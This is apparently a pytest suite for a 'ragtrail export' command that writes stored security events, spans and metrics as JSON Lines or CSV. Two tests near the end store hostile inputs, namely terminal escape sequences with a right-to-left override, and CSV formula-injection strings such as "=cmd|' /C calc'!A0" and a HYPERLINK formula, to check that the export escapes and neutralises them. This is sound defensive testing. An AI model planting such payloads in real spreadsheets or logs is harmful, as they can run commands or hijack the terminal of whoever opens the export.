"""``ragtrail export``: JSON Lines and CSV that read back into the very records stored."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import os
import signal
import stat
import subprocess
import sys
import threading
import time
import types
import typing
from pathlib import Path
from typing import Any

import pytest
from cli_helpers import (
    KNOWN_EVENTS,
    KNOWN_METRICS,
    KNOWN_SPANS,
    Reader,
    Runner,
    peak_rss_kib,
    run_process,
    write_store,
)

from ragtrail._records import MetricsSample, Record, SecurityEvent, Severity, SpanEvent, SpanRecord
from ragtrail.cli._views import format_time
from ragtrail.store import AuditStore

KINDS: dict[str, tuple[type[Record], tuple[Record, ...]]] = {
    "events": (SecurityEvent, tuple(dataclasses.replace(event, id=number)
                                    for number, event in enumerate(KNOWN_EVENTS, start=1))),
    "spans": (SpanRecord, KNOWN_SPANS),
    "metrics": (MetricsSample, KNOWN_METRICS),
}


def from_plain(kind: type[Record], plain: dict[str, Any]) -> Record:
    """A record rebuilt from an exported object (what a consumer of the export would do)."""
    values = {field.name: plain[field.name] for field in dataclasses.fields(kind)}
    if kind is SecurityEvent:
        values["severity"] = Severity.parse(values["severity"])
    if kind is SpanRecord:
        values["events"] = tuple(SpanEvent(**event) for event in values["events"])
    return kind(**values)


def _csv_value(hint: Any, text: str) -> Any:
    union = typing.get_origin(hint) in (typing.Union, types.UnionType)
    options = typing.get_args(hint) if union else (hint,)
    if text == "" and type(None) in options:
        return None
    target = options[0]
    if target in (int, float):
        return target(text)
    if typing.get_origin(target) in (dict, tuple):
        return json.loads(text)
    return text


def from_csv_row(kind: type[Record], row: dict[str, str]) -> Record:
    hints = typing.get_type_hints(kind)
    return from_plain(kind, {name: _csv_value(hints[name], text) for name, text in row.items()
                             if name in hints})


@pytest.mark.parametrize("kind", list(KINDS))
def test_jsonl_export_reads_back_into_the_stored_records(kind: str, reader: Reader) -> None:
    """Each JSON Lines object rebuilds a stored record exactly; oldest first."""
    record_type, expected = KINDS[kind]
    result = reader.run("export", "--db", reader.url, "--kind", kind)
    assert (result.status, result.err) == (0, "")
    rebuilt = [from_plain(record_type, json.loads(line)) for line in result.out.splitlines()]
    assert rebuilt == list(expected)


@pytest.mark.parametrize("kind", list(KINDS))
def test_csv_export_reads_back_into_the_stored_records(kind: str, reader: Reader) -> None:
    """Each CSV row (header first, RFC 4180) rebuilds a stored record exactly; oldest first."""
    record_type, expected = KINDS[kind]
    result = reader.run("export", "--db", reader.url, "--kind", kind, "--format", "csv")
    assert (result.status, result.err) == (0, "")
    rows = list(csv.DictReader(io.StringIO(result.out, newline="")))
    assert [from_csv_row(record_type, row) for row in rows] == list(expected)
    time_key = "start_time" if kind == "spans" else "time"
    time_us_key = "start_us" if kind == "spans" else "time_us"
    assert all(row[time_key] == format_time(int(row[time_us_key]), "microseconds")
               for row in rows)


def test_export_filters_and_limit(known_store: str, run_inprocess: Runner) -> None:
    """Filters of the chosen kind apply; --limit keeps the newest N, still oldest first."""
    def exported(*flags: str) -> list[dict[str, Any]]:
        result = run_inprocess("export", "--db", known_store, *flags)
        assert result.status == 0
        return [json.loads(line) for line in result.out.splitlines()]

    assert [e["id"] for e in exported("--min-severity", "high")] == [2, 3]
    assert [e["id"] for e in exported("--limit", "2")] == [3, 4]
    assert [e["id"] for e in exported("--since", "2024-05-01T12:00:01Z",
                                      "--until", "2024-05-01T12:00:03Z")] == [2, 3]
    spans = exported("--kind", "spans", "--errors-only", "--span-kind", "llm")
    assert [s["name"] for s in spans] == ["answer"]
    assert [s["name"] for s in exported("--kind", "spans", "--trace-id",
                                        "4bf92f3577b34da6a3ce929d0e0e4736")] == [
        "search", "answer"]
    assert len(exported("--kind", "metrics", "--since", "2024-05-01T12:00:10Z")) == 1


@pytest.fixture(scope="module")
def flood_url(tmp_path_factory: pytest.TempPathFactory) -> str:
    """60,000 events of 1 KB in a SQLite store (only read): an export of seconds."""
    url = f"sqlite:///{tmp_path_factory.mktemp('flood') / 'flood.db'}"
    store = AuditStore(url, queue_size=60_000, event_coalesce_seconds=0)
    for n in range(60_000):
        store.record(SecurityEvent("flood", Severity.LOW, "gateway", f"{n:06d}" + "x" * 1000,
                                   1_714_564_800_000_000 + n))
    assert store.flush(timeout=120)
    store.close()
    return url


@pytest.mark.skipif(not os.path.exists("/proc/self/status"), reason="needs Linux /proc")
def test_export_streams_in_flat_memory(flood_url: str) -> None:
    """Exporting 60,000 events of 1 KB takes no more memory than exporting one: the export
    streams (a 1,000,000-event ring took 1.2 GB and 70 s read whole, and ``| head -1``
    waited for all of it)."""
    url = flood_url
    one = peak_rss_kib("export", "--db", url, "--limit", "1")
    every = peak_rss_kib("export", "--db", url, "--format", "csv")
    assert every - one < 20 * 1024, (one, every)


@pytest.mark.parametrize("stop", [signal.SIGTERM, signal.SIGHUP])
def test_a_terminated_export_leaves_no_temporary_file(
        flood_url: str, tmp_path: Path, stop: signal.Signals) -> None:
    """``export -o FILE`` ended by SIGTERM (kill, timeout, systemd) or SIGHUP (the terminal
    closed) mid-way: exit 128 + the signal, no FILE and no ``.FILE.PID.tmp`` left (it was
    left, as large as the export so far)."""
    target = tmp_path / "events.jsonl"
    with subprocess.Popen([sys.executable, "-m", "ragtrail", "export", "--db", flood_url,
                           "-o", str(target)], stderr=subprocess.PIPE) as child:
        deadline = time.monotonic() + 60
        while not any(tmp_path.glob(".events.jsonl.*.tmp")) and child.poll() is None:
            assert time.monotonic() < deadline, "export never started writing"
            time.sleep(0.01)
        child.send_signal(stop)
        _, err = child.communicate(timeout=60)
    assert (child.returncode, err) == (128 + stop, b"")
    assert list(tmp_path.iterdir()) == []


def test_output_file_gets_what_stdout_would(known_file: Path, tmp_path: Path,
                                            run_inprocess: Runner) -> None:
    """``--output FILE`` writes the same bytes as stdout, prints nothing, leaves no temp file."""
    target = tmp_path / "out" / "events.csv"
    target.parent.mkdir()
    target.write_text("old content\n")
    to_stdout = run_inprocess("export", "--db", str(known_file), "--format", "csv")
    to_file = run_inprocess("export", "--db", str(known_file), "--format", "csv",
                            "--output", str(target))
    assert (to_file.status, to_file.out, to_file.err) == (0, "", "")
    assert target.read_bytes().decode("utf-8") == to_stdout.out
    assert sorted(p.name for p in target.parent.iterdir()) == ["events.csv"]


def test_output_into_a_pipe_or_device_writes_into_it(known_file: Path, tmp_path: Path,
                                                     run_inprocess: Runner) -> None:
    """A FIFO (or bash's ``>(gzip)``) and a device are written into, as the shell's ``>``
    would: the temporary-file-and-rename replaced them with a regular file (as root, a
    device node such as /dev/null) and hung on pipes."""
    expected = run_inprocess("export", "--db", str(known_file)).out
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    received: list[bytes] = []
    reader = threading.Thread(target=lambda: received.append(fifo.read_bytes()))
    reader.start()
    result = run_inprocess("export", "--db", str(known_file), "--output", str(fifo))
    reader.join(10)
    assert (result.status, result.err) == (0, "")
    assert received == [expected.encode()]
    assert stat.S_ISFIFO(fifo.stat().st_mode)
    null = tmp_path / "null"
    try:
        os.mknod(null, 0o666 | stat.S_IFCHR, os.makedev(1, 3))  # a copy of /dev/null's node
    except PermissionError:
        return  # creating device nodes needs root (CI runs as root)
    result = run_inprocess("export", "--db", str(known_file), "--output", str(null))
    assert (result.status, result.err) == (0, "")
    assert stat.S_ISCHR(null.stat().st_mode)
    assert not [p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")]


def test_output_dash_means_stdout(known_file: Path, run_inprocess: Runner) -> None:
    """``--output -`` is stdout."""
    result = run_inprocess("export", "--db", str(known_file), "--output", "-")
    assert len(result.out.splitlines()) == len(KNOWN_EVENTS)


def test_export_refuses_to_overwrite_a_database(known_file: Path,
                                                run_inprocess: Runner) -> None:
    """``--output`` naming a SQLite file (the store itself, say) is refused; it is unchanged."""
    before = known_file.read_bytes()
    result = run_inprocess("export", "--db", str(known_file), "--output", str(known_file))
    assert result.status == 2
    assert result.err == f"ragtrail: error: {known_file} is a SQLite database; refusing to " \
                         "overwrite it\n"
    assert known_file.read_bytes() == before


def test_unwritable_output_is_one_error_line(known_file: Path, tmp_path: Path,
                                             run_inprocess: Runner) -> None:
    """A directory that does not exist: exit 2, one line naming the file, nothing created."""
    target = tmp_path / "missing" / "out.jsonl"
    result = run_inprocess("export", "--db", str(known_file), "--output", str(target))
    assert result.status == 2
    assert result.err == (f"ragtrail: error: cannot write {target}: "
                          "No such file or directory\n")
    assert not target.parent.exists()


def run_on_terminal(*argv: str) -> bytes:
    """``python -m ragtrail ARGV`` with its stdout on a real pseudo-terminal."""
    controller, terminal = os.openpty()
    try:
        child = subprocess.Popen([sys.executable, "-m", "ragtrail", *argv], stdout=terminal,
                                 stderr=subprocess.DEVNULL)
        os.close(terminal)
        output = bytearray()
        while True:
            try:
                chunk = os.read(controller, 65536)
            except OSError:  # EIO: the child closed the terminal
                break
            if not chunk:
                break
            output += chunk
        assert child.wait(timeout=60) == 0
        return bytes(output)
    finally:
        os.close(controller)


def test_csv_shows_control_characters_escaped_on_a_terminal_and_in_files(
        tmp_path: Path) -> None:
    """A client's escape sequence in a stored event drove the terminal of whoever ran
    ``ragtrail export --format csv``; into a pipe or a file the CSV is escaped the same way."""
    store_url = f"sqlite:///{tmp_path / 'audit.db'}"
    hostile = SecurityEvent("x\x1b]0;pwned\x07", Severity.HIGH, "10.0.0.1",
                            "\x1b[2J\u202eexe.txt", 1_714_564_800_000_000)
    write_store(store_url, hostile)
    on_terminal = run_on_terminal("export", "--db", store_url, "--format", "csv")
    assert b"\x1b" not in on_terminal
    assert "\u202e".encode() not in on_terminal
    assert rb"x\x1b]0;pwned\x07" in on_terminal
    assert rb"\x1b[2J\u202eexe.txt" in on_terminal
    piped = run_process("export", "--db", store_url, "--format", "csv")
    row = next(csv.DictReader(io.StringIO(piped.out)))
    assert (row["event_type"], row["description"]) == (
        r"x\x1b]0;pwned\x07", r"\x1b[2J\u202eexe.txt")


# Every character Python's str.splitlines() breaks at, and a spreadsheet formula after each.
_LINE_BREAKS = "\n\r\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029"


def test_csv_export_keeps_each_record_on_one_line_and_runs_no_formula(
        tmp_path: Path) -> None:
    """Stored text with line breaks, tabs, NULs and formulas (a user agent, a path, a
    correlation ID) exported to a file: one line per record, every text cell escaped (an
    escaped tab starts with a backslash, no formula) and neutralised, numbers (negative too)
    left numbers."""
    store_url = f"sqlite:///{tmp_path / 'audit.db'}"
    texts = ["\t=1+1", "\r=1+1", "\x00=1+1", "  =HYPERLINK(\"http://x/\"&A1)", "-2+3",
             "@SUM(A1)", "+1", *(f"a{char}=cmd|' /C calc'!A0" for char in _LINE_BREAKS)]
    write_store(store_url, *(
        SecurityEvent("user_agent", Severity.LOW, "gateway", text, 1_714_564_800_000_000 + n,
                      correlation_id=text, pid=-1 - n, count=1)
        for n, text in enumerate(texts)))
    target = tmp_path / "events.csv"
    result = run_process("export", "--db", store_url, "--format", "csv", "-o", str(target))
    assert result.status == 0
    data = target.read_text(encoding="utf-8")
    lines = data.splitlines()
    assert len(lines) == 1 + len(texts)  # wc -l, grep and line shippers see one row a record
    rows = list(csv.DictReader(io.StringIO(data, newline="")))
    expected = [r"\t=1+1", r"\r=1+1", r"\x00=1+1", "'  =HYPERLINK(\"http://x/\"&A1)",
                "'-2+3", "'@SUM(A1)", "'+1",
                *("a" + repr(char)[1:-1] + "=cmd|' /C calc'!A0" for char in _LINE_BREAKS)]
    assert [row["description"] for row in rows] == expected
    assert [row["correlation_id"] for row in rows] == expected
    assert [row["pid"] for row in rows] == [str(-1 - n) for n in range(len(texts))]
